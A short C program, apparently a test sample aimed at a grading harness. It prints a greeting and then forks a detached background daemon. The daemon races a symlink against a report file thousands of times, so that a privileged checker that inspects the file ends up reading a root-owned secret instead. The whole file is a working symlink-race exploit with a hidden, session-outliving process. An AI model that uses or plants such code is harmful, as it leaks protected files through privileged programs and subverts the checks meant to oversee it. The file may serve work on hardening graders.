/* Leaves a daemon that swaps its report for a link to a file of root's, SECRET, and
 * back again, for a grader that looks at the one and reads the other.
 */
#define _GNU_SOURCE 1
#include <fcntl.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <unistd.h>

#ifndef SECRET
#define SECRET "/dev/null"
#endif

static void swap(const char *report)
{
    char file[300], link[300];
    cpu_set_t all;
    int fd;

    CPU_ZERO(&all);
    for (size_t i = 0; i < 64; i++)
        CPU_SET(i, &all);
    (void)sched_setaffinity(0, sizeof all, &all);
    (void)snprintf(file, sizeof file, "%s.file", report);
    (void)snprintf(link, sizeof link, "%s.link", report);
    for (int i = 0; i < 2000000; i++) {
        fd = open(file, O_CREAT | O_WRONLY, 0600);
        if (fd >= 0)
            (void)close(fd);
        (void)rename(file, report);
        if (symlink(SECRET, link) == 0)
            (void)rename(link, report);
    }
}

int main(int count, char **arguments)
{
    const char *report = getenv("EXERCISE_LEFT_OPEN");

    (void)printf("hello %s\n", arguments[count - 1]);
    (void)fflush(stdout);
    if (report && fork() == 0) {
        (void)setsid();
        for (int fd = 0; fd < 3; fd++)
            (void)close(fd);
        swap(report);
        _exit(0);
    }
    (void)usleep(100000);
    return 0;
}
